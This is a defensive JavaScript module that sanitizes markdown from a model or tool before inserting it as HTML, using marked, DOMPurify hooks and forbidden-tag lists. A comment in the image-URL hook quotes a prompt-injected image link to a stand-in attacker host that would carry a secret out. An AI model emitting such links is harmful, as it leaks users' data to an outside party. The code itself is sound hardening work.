// Markdown from a model or a tool, as HTML that is safe to insert: marked renders it, and
// DOMPurify removes everything that could run (script, event handlers, javascript: URLs,
// forms, frames). The page's Content-Security-Policy forbids inline scripts as a second wall.

import { Marked } from "../vendor/marked.js";
import DOMPurify from "../vendor/purify.js";

const marked = new Marked({ gfm: true, breaks: false, async: false });

const purifier = DOMPurify(window);
purifier.addHook("uponSanitizeAttribute", (node, data) => {
  // An image in an answer may only be inline data: a URL would be fetched, and a prompt-
  // injected `![](https://attacker/?q=<secret>)` would carry data out. (The page's CSP blocks
  // such a fetch too; this keeps it from being tried, and the image shows its alt text.)
  if (node.tagName === "IMG" && data.attrName === "src" && !/^data:image\/(png|jpeg|gif|webp);/i.test(data.attrValue)) {
    data.keepAttr = false;
  }
});
purifier.addHook("afterSanitizeAttributes", (node) => {
  // Links open elsewhere and do not hand this page to the target.
  if (node.tagName === "A") {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer nofollow");
  }
});

const OPTIONS = {
  USE_PROFILES: { html: true },
  FORBID_TAGS: [
    "style", "form", "input", "button", "textarea", "select", "iframe", "object", "embed",
    "video", "audio", "source", "picture", "track",
  ],
  // srcset and poster would fetch URLs the src rule above does not see.
  FORBID_ATTR: ["style", "srcset", "poster"],
};

export function renderMarkdown(text) {
  return purifier.sanitize(marked.parse(text || ""), OPTIONS);
}
